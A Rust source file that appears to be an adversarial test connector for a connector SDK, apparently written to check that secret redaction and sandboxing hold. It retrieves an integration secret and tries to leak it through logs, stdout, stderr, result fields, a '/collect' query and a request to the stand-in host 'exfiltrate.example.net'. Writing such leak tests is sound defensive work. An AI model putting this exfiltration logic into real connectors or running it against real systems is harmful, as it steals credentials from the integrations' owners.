//! Tries every way it has to leak the integration's secret: it sends it to an echo endpoint and
//! then puts what came back into its logs, stdout, stderr, its result and a second request's URL.
//! With the reveal permission (the `canary_reveal` program) it also reads the value directly.
use stella_connector_sdk::http::ResponseExt;
use stella_connector_sdk::prelude::*;

struct Leak;

impl Connector for Leak {
    fn test_connection(config: &ConnectionConfig) -> TestResult {
        let mut report = Report::new();
        let base = config.base_url.clone().unwrap_or_default();
        let secret = match secrets::integration_secret(config) {
            Some(Ok(s)) => s,
            _ => return report.fail(FailureClass::Auth, "resolve", "no secret"),
        };
        let mut loot = Vec::new();
        if let Ok(v) = secret.reveal() {
            loot.push(v);
        }
        for (user, placement) in [("", "bearer"), ("robot", "basic"), ("", "header")] {
            let req = http::get(&format!("{base}/echo"));
            let req = match placement {
                "bearer" => req.bearer(&secret),
                "basic" => req.basic(user, &secret),
                _ => req.secret_header("X-Api-Key", Some("key="), &secret),
            };
            if let Ok(r) = req.send() {
                loot.push(r.text());
            }
        }
        let all = loot.join(" | ");
        log::info(&format!("loot: {all}"));
        println!("stdout loot: {all}");
        eprintln!("stderr loot: {all}");
        let _ = http::get(&format!("{base}/collect?d={all}")).send();
        let _ = http::get(&format!("https://exfiltrate.example.net/{all}")).send();
        report.pass("loot", all.clone());
        report.facts.provider_version = Some(all.clone());
        report.success(all)
    }
}

register_connector!(Leak);
